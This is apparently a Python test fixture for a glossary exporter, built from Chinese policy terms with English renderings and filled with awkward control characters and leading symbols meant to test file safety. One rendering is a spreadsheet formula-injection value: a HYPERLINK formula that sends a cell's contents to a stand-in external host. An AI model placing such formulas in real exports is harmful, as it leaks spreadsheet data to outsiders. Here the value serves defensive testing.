"""One small term list that is written in every format: what a list is made of, and what spoils files."""

from glossary.formats.listed import Candidate, Draft, ListedRendering, ListedTerm, TermList
from glossary.vocabulary import TermStatus

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"三清零")'

THREE_ZEROS = ListedTerm(
    concept="dalad-2024-3qingling",
    headword="三清零",
    traditional="三清零",
    pinyin="sān qīnglíng",
    renderings=(
        ListedRendering("three clear-to-zeros", TermStatus.DEPRECATED, forbidden=False),
        ListedRendering("Three Zeros initiative", TermStatus.ADMITTED, forbidden=False),
        ListedRendering("Three Purges", TermStatus.PREFERRED, forbidden=True),
        ListedRendering("closing the three R&D gaps", TermStatus.PREFERRED, forbidden=False),
        ListedRendering("three clearances", TermStatus.PROPOSED, forbidden=False),
    ),
    definition_zh="推动规上工业企业无研发投入、无研发机构、无发明专利清零。",
    definition_en='A drive to bring to zero "the three withouts".',
    subject_field="industry",
    source="dalad-2024",
    count=2,
    sentence="深入开展“三清零”“双倍增、双提升”行动，\r\n促进形成新质生产力。",
)
UNSWERVINGLY = ListedTerm(
    concept="dalad-2024-2ge",
    headword="两个毫不动摇",
    traditional="兩個毫不動搖",
    pinyin="liǎng gè háobù dòngyáo",
    renderings=(ListedRendering("Two\tUnswervinglys\n(2022)", TermStatus.PREFERRED, forbidden=False),),
    definition_zh="毫不动摇巩固和发展公有制经济。" * 10,
    definition_en=None,
    subject_field="economy",
    source="dalad-2024",
    count=1,
    sentence="\u202e坚持“两个毫不动摇”\x00，\ufffe𠮷县\x1b。",
)
TRANSFORMATIONS = ListedTerm(
    concept="dalad-2024-3bian",
    headword="农村“三变”改革",
    traditional="農村“三變”改革",
    pinyin=None,
    renderings=(
        ListedRendering(FORMULA, TermStatus.PREFERRED, forbidden=False),
        ListedRendering("rural “Three Changes” reform", TermStatus.SUPERSEDED, forbidden=False),
    ),
    definition_zh=None,
    definition_en="\tThe reform by which rural resources become assets.",
    subject_field=None,
    source=None,
    count=1,
    sentence="",
)
WITHOUT_ENGLISH = ListedTerm(
    concept="9",
    headword="#三变",
    traditional="#三變",
    pinyin="sān biàn",
    renderings=(ListedRendering("three changes", TermStatus.PROPOSED, forbidden=True),),
    definition_zh=None,
    definition_en=None,
    subject_field=None,
    source="dalad-2024",
    count=1,
    sentence="@三变",
)
UNNAMED = ListedTerm(
    concept="dalad-2024-4gao",
    headword="四高",
    traditional="四高",
    pinyin="sì gāo",
    renderings=(),
    definition_zh=None,
    definition_en="-Four highs.",
    subject_field=None,
    source="dalad-2024",
    count=1,
    sentence="四高。",
)
LIST = TermList(
    title="政府工作报告 <2024> & 附件",
    terms=(THREE_ZEROS, UNSWERVINGLY, TRANSFORMATIONS, WITHOUT_ENGLISH, UNNAMED),
    candidates=(
        Candidate(
            "#两清零三变",
            "#兩清零三變",
            "liǎng qīng líng sān biàn",
            3,
            "推进“两清零三变”。",
            Draft("clearing + three changes", ("清零", "三变")),
        ),
        Candidate("𠮷县速度", "𠮷縣速度", "jí xiàn sù dù", 1, "跑出“𠮷县速度”。", None),
    ),
)
EMPTY = TermList(title="", terms=(), candidates=())
